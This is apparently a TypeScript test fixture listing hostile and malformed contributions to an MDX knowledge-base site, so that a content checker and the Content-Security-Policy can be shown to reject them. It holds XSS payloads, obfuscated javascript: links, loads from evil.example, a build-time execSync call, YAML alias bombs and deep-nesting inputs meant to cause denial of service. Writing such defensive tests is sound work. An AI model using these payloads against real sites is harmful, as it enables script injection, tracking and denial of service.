import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brokenCopy, FIXTURE } from '../helpers/fixture.ts';

/**
 * Hostile or broken contributions, each applied alone to a copy of test/fixtures/kb. Each names
 * the file and line the check must report and the rule; `build: true` cases are also put, all
 * together, into one site built without the check (test/build/hostile-build.test.ts), to prove that the
 * built-site check and the Content-Security-Policy would still stop them.
 */
export interface HostileCase {
  name: string;
  /** Path in the copy → new text, or a function of the old text (as brokenCopy takes). */
  edits?: Record<string, string | ((old: string) => string)>;
  /** For what text edits cannot do: bytes, links, big files. */
  setup?: (dir: string) => void;
  /** `null`: harmless, must be accepted with no problem at all. */
  expect: { file: string; line: number; rule: string; message?: RegExp | undefined } | null;
  /** The body text, when the case also goes into the shared build that bypasses the check. */
  build?: string | undefined;
}

export const ENTRY = 'practices/rank-simply.mdx';
const ENTRY_TEXT = readFileSync(join(FIXTURE, ENTRY), 'utf8');
/** Text appended to the fixture entry starts here, after one blank line. */
export const BODY = ENTRY_TEXT.trimEnd().split('\n').length + 2;
/** The first line after the frontmatter. */
const BODY_START = ENTRY_TEXT.split('\n').indexOf('---', 1) + 2;
/** The line of the fixture entry that starts with `text`. */
const lineOf = (text: string) => ENTRY_TEXT.split('\n').findIndex((l) => l.startsWith(text)) + 1;
const body = (
  name: string,
  text: string,
  rule: string,
  opts: { line?: number; message?: RegExp; build?: boolean } = {},
): HostileCase => ({
  name,
  edits: { [ENTRY]: (s) => `${s.trimEnd()}\n\n${text}\n` },
  expect: { file: ENTRY, line: opts.line ?? BODY, rule, message: opts.message },
  build: opts.build ? text : undefined,
});
/** Replaces a frontmatter line; the problem is expected `offset` lines below it. */
const front = (
  name: string,
  from: string,
  to: string,
  offset: number,
  rule: string,
  message?: RegExp,
): HostileCase => ({
  name,
  edits: { [ENTRY]: (s) => s.replace(from, to) },
  expect: { file: ENTRY, line: lineOf(from) + offset, rule, message },
});
const source = (name: string, text: string, line: number, rule: string, message?: RegExp): HostileCase => ({
  name,
  edits: { 'sources/acme-ranking.yaml': (s) => s.replace('url: null', text) },
  expect: { file: 'sources/acme-ranking.yaml', line, rule, message },
});
const mermaid = (lines: string[]) => ['```mermaid', 'flowchart LR', ...lines, '```'].join('\n');
const chain = (n: number) => Array.from({ length: n }, (_, i) => `  n${i} --> n${i + 1}`);
const UNSAFE = 'unsafe-content';

export const CASES: HostileCase[] = [
  // Scripts in pages.
  body('script inside Guidance', '<Guidance>\n\n<script>alert(1)</script>\n\n</Guidance>', UNSAFE, {
    line: BODY + 2,
    message: /<script> is not allowed/,
    build: true,
  }),
  body('script loaded from another host', '<script src="https://evil.example/x.js"></script>', UNSAFE, {
    message: /<script>/,
  }),
  body('img onerror with a data: URL', '<img src="data:," onerror="alert(1)" />', UNSAFE, {
    message: /data:|onerror/,
    build: true,
  }),
  body('details ontoggle', '<details open ontoggle="alert(1)"><summary>More</summary>Text</details>', UNSAFE, {
    message: /ontoggle.*event handler/,
    build: true,
  }),
  body('Markdown javascript: link', '[Read more](javascript:alert(1))', UNSAFE, {
    message: /`javascript:` scheme/,
    build: true,
  }),
  body('JSX javascript: link', '<a href="javascript:alert(1)">Read more</a>', UNSAFE, {
    message: /javascript:/,
    build: true,
  }),
  body('javascript: hidden by a character reference', '[Read more](jav&#x61;script:alert(1))', UNSAFE, {
    message: /javascript:/,
  }),
  body('javascript: in mixed case with a tab', '<a href="  JaVa\tScRiPt:alert(1)">x</a>', UNSAFE, {
    message: /javascript:/,
  }),
  body('javascript: in a reference definition', '[Read more][r]\n\n[r]: javascript:alert(1)', UNSAFE, {
    line: BODY + 2,
    message: /javascript:/,
    build: true,
  }),
  body('data:text/html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', UNSAFE, {
    message: /`data:` scheme/,
  }),
  body('vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', UNSAFE, { message: /vbscript:/ }),
  body('style element', '<style>body</style>', UNSAFE, { message: /<style> is not allowed/ }),
  body('iframe', '<iframe src="https://evil.example/"></iframe>', UNSAFE, { message: /<iframe>/, build: true }),
  body('object', '<object data="https://evil.example/x.swf"></object>', UNSAFE, { message: /<object>/ }),
  body('embed', '<embed src="https://evil.example/x" />', UNSAFE, { message: /<embed>/ }),
  body('form posting elsewhere', '<form action="https://evil.example/"><input name="p" /></form>', UNSAFE, {
    message: /<form>/,
  }),
  body('meta refresh to another site', '<meta http-equiv="refresh" content="0; url=https://evil.example/" />', UNSAFE, {
    message: /<meta>/,
    build: true,
  }),
  body('base element', '<base href="https://evil.example/" />', UNSAFE, { message: /<base>/ }),
  body('stylesheet from another host', '<link rel="stylesheet" href="https://evil.example/x.css" />', UNSAFE, {
    message: /<link>/,
  }),
  body('svg onload', '<svg onload="alert(1)"></svg>', UNSAFE, { message: /<svg>/ }),
  body(
    'style attribute loading a tracker',
    '<span style="background:url(https://evil.example/t.png)">x</span>',
    UNSAFE,
    { message: /`style`/, build: true },
  ),
  body('spread attributes', '<span {...{ onClick: () => alert(1) }}>x</span>', UNSAFE, {
    message: /spreads a JavaScript expression/,
  }),
  body('expression attribute', "<a href={'javascript:alert(1)'}>x</a>", UNSAFE, { message: /JavaScript expression/ }),
  // Code at build time.
  body('export running a shell command', "export const x = require('node:child_process').execSync('id')", UNSAFE, {
    message: /`import`\/`export` runs code/,
  }),
  body('import of a Node module', "import fs from 'node:fs'", UNSAFE, { message: /`import`\/`export`/ }),
  body('inline expression', 'Home is {process.env.HOME}.', UNSAFE, { message: /JavaScript expression/ }),
  body('block expression', "{(() => { throw new Error('boom') })()}", UNSAFE, { message: /JavaScript expression/ }),
  // Requests to other hosts.
  body('image from another host (Markdown)', '![pixel](https://evil.example/pixel.png)', UNSAFE, {
    message: /another host \(evil\.example\)/,
    build: true,
  }),
  body('image from another host (protocol-relative)', '<img src="//evil.example/p.png" alt="" />', UNSAFE, {
    message: /another host/,
  }),
  body('image from another host (backslash trick)', '<img src="/\\evil.example/p.png" alt="" />', UNSAFE, {
    message: /another host/,
  }),
  body(
    'img inside a mermaid label',
    mermaid(['  A["<img src=\'https://evil.example/p.png\'>"] --> B']),
    'unsafe-diagram',
    { line: BODY + 2, message: /labels hold HTML \(<img>\)/ },
  ),
  body(
    'mermaid init directive turning HTML labels on',
    mermaid(['  %%{init: {"htmlLabels": true}}%%', '  A --> B']),
    'unsafe-diagram',
    { line: BODY + 2, message: /%%\{init\}%%/ },
  ),
  body('mermaid click to javascript:', mermaid(['  A --> B', '  click A "javascript:alert(1)"']), 'unsafe-diagram', {
    line: BODY + 3,
    message: /javascript:/,
  }),
  body('mermaid click calling a function', mermaid(['  A --> B', '  click A call alert()']), 'unsafe-diagram', {
    line: BODY + 3,
    message: /runs a script/,
  }),
  body('500-node diagram', mermaid(chain(500)), 'diagram-size', { message: /501 nodes \(at most 80\)/ }),
  // Crashes.
  body(
    'list nested 250 deep',
    Array.from({ length: 250 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
    'nesting-depth',
    { line: BODY + 20, message: /nest 250 levels deep/ },
  ),
  body('blockquote nested 1,000 deep', `${'>'.repeat(1000)} deep`, 'nesting-depth', { message: /nest 1000 levels/ }),
  front(
    'YAML alias bomb in frontmatter',
    'related: [label-by-hand]',
    `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, ` +
      `*b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]`,
    1,
    'yaml',
    /alias/i,
  ),
  front(
    'YAML nested 5,000 deep in frontmatter',
    'related: [label-by-hand]',
    `related: ${'['.repeat(5000)}${']'.repeat(5000)}`,
    0,
    'yaml',
    /nests too deeply/,
  ),
  source(
    'YAML alias bomb in a source',
    'url: null\nx: &x [a, a, a, a, a, a, a, a, a, a]\ny: &y [*x, *x, *x, *x, *x, *x, *x, *x, *x, *x]\nz: [*y, *y, ' +
      '*y, *y, *y, *y, *y, *y, *y, *y]',
    7,
    'yaml',
    /alias/i,
  ),
  body('unclosed Guidance', '<Guidance>\n\nStart small.\n', 'mdx-syntax', {
    line: BODY,
    message: /closing tag for `<Guidance>`.*close every <Guidance>/,
  }),
  body('unknown component', '<Foo />', UNSAFE, { message: /unknown component <Foo>.*<Guidance>/ }),
  body('misspelt component', '<Guidence>\n\nStart small.\n\n</Guidence>', UNSAFE, {
    message: /did you mean `Guidance`/,
  }),
  body('HTML comment', '<!-- a note -->', 'mdx-syntax', { message: /\{\/\* \*\/\}/ }),
  body('bare less-than sign', 'Latency went from a<b to c.', 'mdx-syntax', { message: /&lt;/ }),
  // Wrong or unclear messages.
  front(
    'title as a number',
    'title: Rank simply',
    'title: 12345',
    0,
    'schema',
    /`title` must be text, but is the number 12345: put it in quotes/,
  ),
  front(
    'tags as a string',
    'tags: [ranking]',
    'tags: "ranking"',
    0,
    'schema',
    /`tags` is the text "ranking", not a list: write `tags: \[ranking\]` or one `- item` per line/,
  ),
  {
    name: 'frontmatter that is a list',
    edits: { [ENTRY]: (s) => s.replace(/^---\n[\s\S]*?\n---/, '---\n- a\n- b\n---') },
    expect: { file: ENTRY, line: 2, rule: 'schema', message: /must hold fields.*but holds a list/ },
  },
  {
    name: 'tags.yaml that does not parse, without a cascade',
    edits: { 'tags.yaml': (s) => `${s}broken: [\n` },
    expect: { file: 'tags.yaml', line: 6, rule: 'yaml' },
  },
  {
    name: 'YAML alias bomb in outline.yaml',
    edits: {
      'outline.yaml': (s) =>
        `${s}\nx: &x [a, a, a, a, a, a, a, a, a]\ny: &y [*x, *x, *x, *x, *x, *x, *x, *x, *x]\nz: [*y, *y, *y, *y, ` +
        `*y, *y, *y, *y, *y]\n`,
    },
    expect: { file: 'outline.yaml', line: 10, rule: 'yaml', message: /alias/ },
  },
  {
    name: 'UTF-8 byte order mark',
    setup: (dir) => writeFileSync(join(dir, ENTRY), `\uFEFF${ENTRY_TEXT}`),
    expect: null,
  },
  {
    name: 'file that is not UTF-8',
    setup: (dir) =>
      writeFileSync(
        join(dir, ENTRY),
        Buffer.concat([Buffer.from(ENTRY_TEXT.trimEnd()), Buffer.from('\ncaf'), Buffer.from([0xe9, 0x0a])]),
      ),
    expect: { file: ENTRY, line: BODY - 1, rule: 'encoding', message: /not UTF-8/ },
  },
  {
    name: 'entry failing its schema still counts as an entry',
    edits: { 'challenges/label-noise.mdx': (s) => s.replace(/^summary: .*$/m, 'summary: 5') },
    expect: { file: 'challenges/label-noise.mdx', line: 3, rule: 'schema', message: /`summary` must be text/ },
  },
  // Silent losses.
  front(
    'alias already used by another entry',
    'related: [label-by-hand]',
    'related: [label-by-hand]\naliases: [hand-labelling]',
    1,
    'duplicate-alias',
    /already an alias of .*label-by-hand\.mdx/,
  ),
  front(
    'alias listed twice',
    'related: [label-by-hand]',
    'related: [label-by-hand]\naliases: [simple, simple]',
    1,
    'duplicate-alias',
    /listed above/,
  ),
  {
    name: 'entry over 200 KB',
    edits: { [ENTRY]: (s) => `${s}\n${'Acme ranked widgets simply [@acme-ranking].\n\n'.repeat(6000)}` },
    expect: { file: ENTRY, line: 1, rule: 'file-size', message: /at most 200 KB/ },
  },
  body('heading that takes the Sources id', '## Sources\n\nAcme kept notes [@acme-ranking].', 'layout-id', {
    message: /#sources/,
  }),
  body('heading that takes the main id', '## Main\n\nAcme kept notes [@acme-ranking].', 'layout-id', {
    message: /#main/,
  }),
  body('citation hidden in inline code', 'Acme cut ranking costs by 40% `[@acme-ranking]`.', 'uncited-figure', {
    message: /"40%"/,
  }),
  body(
    'figure in a table cell inside Guidance',
    '<Guidance>\n\n| Step | Gain |\n| - | - |\n| Rerank | `97%` |\n\n</Guidance>',
    'uncited-figure',
    { line: BODY + 4, message: /"97%"/ },
  ),
  {
    name: 'symlink to a file outside the repository',
    setup: (dir) => symlinkSync('/etc/hostname', join(dir, 'practices/hostname.mdx')),
    expect: { file: 'practices/hostname.mdx', line: 1, rule: 'symlink' },
  },
  {
    name: 'entry saved as .md',
    edits: { 'practices/notes.md': '# Notes\n' },
    expect: { file: 'practices/notes.md', line: 1, rule: 'stray-file', message: /only \.mdx files/ },
  },
  {
    name: 'file name that is not UTF-8',
    setup: (dir) =>
      writeFileSync(
        Buffer.concat([Buffer.from(join(dir, 'practices/caf')), Buffer.from([0xe9]), Buffer.from('.mdx')]),
        ENTRY_TEXT,
      ),
    expect: { file: 'practices/caf\uFFFD.mdx', line: 1, rule: 'file-name' },
  },
  {
    name: 'frontmatter never closed',
    edits: { [ENTRY]: (s) => s.replace('\n---\n', '\n\n') },
    expect: { file: ENTRY, line: 1, rule: 'schema', message: /not closed/ },
  },
  body('emphasis nested 400 deep', `${'*a _'.repeat(200)}x${'_ a*'.repeat(200)}`, 'nesting-depth', {
    message: /nest 400 levels/,
  }),
  body(
    'emphasis nested 20,000 deep (minutes to parse)',
    `${'*a _'.repeat(10000)}x${'_ a*'.repeat(10000)}`,
    'too-complex',
    { line: BODY_START, message: /more than 5 s/ },
  ),
  body('20,000 nested brackets', `${'[\n'.repeat(20000)}x${']'.repeat(20000)}`, 'too-complex', { line: BODY_START }),
  body('block quote 100,000 deep on one line', `${'>'.repeat(100000)} x`, 'too-complex', { line: BODY_START }),
  {
    name: 'file name that is not an id',
    edits: { 'practices/Rank Simply.mdx': '---\ntitle: x\n---\n' },
    expect: { file: 'practices/Rank Simply.mdx', line: 1, rule: 'file-name' },
  },
  // Invisible and control characters: text that reads differently from what it holds.
  front(
    'right-to-left override in a title',
    'title: Rank simply',
    'title: Rank \u202Eylpmis',
    0,
    'invisible-character',
    /U\+202E RIGHT-TO-LEFT OVERRIDE.*delete it/,
  ),
  body('NUL byte in the body', 'Acme ranks\0 with a simple model [@acme-ranking].', 'invisible-character', {
    message: /U\+0000 NULL/,
  }),
  body(
    'bidi isolate around a link',
    'See \u2067[label by hand](/practices/label-by-hand/)\u2069.',
    'invisible-character',
    {
      message: /U\+2067 RIGHT-TO-LEFT ISOLATE/,
    },
  ),
  source(
    'zero-width space in a source',
    'url: null\nnote: "Ranking\u200b at Acme"',
    6,
    'invisible-character',
    /U\+200B/,
  ),
  // Source URLs.
  source('javascript: source URL', 'url: "javascript:alert(1)"', 5, 'schema', /http\(s\) URL/),
  source('data: source URL', 'url: "data:text/html,<script>alert(1)</script>"', 5, 'schema', /http\(s\) URL/),
];

/** The fixture with every `build` case as a page of its own, for the build that bypasses the check. */
export function hostileContent(): string {
  const dir = brokenCopy('hostile-site-content', FIXTURE, {});
  const head = readFileSync(join(FIXTURE, 'practices/rank-simply.mdx'), 'utf8').split('---\n')[1]!;
  mkdirSync(join(dir, 'practices'), { recursive: true });
  CASES.filter((c) => c.build).forEach((c, i) => {
    const page = `---\n${head.replace('Rank simply', `Hostile ${i}`)}---\n\n${c.build}\n`;
    writeFileSync(join(dir, `practices/hostile-${i}.mdx`), page);
  });
  // A byte order mark is accepted by the build as by the check.
  writeFileSync(
    join(dir, 'techniques/active-learning.mdx'),
    `\uFEFF${readFileSync(join(FIXTURE, 'techniques/active-learning.mdx'), 'utf8')}`,
  );
  return dir;
}
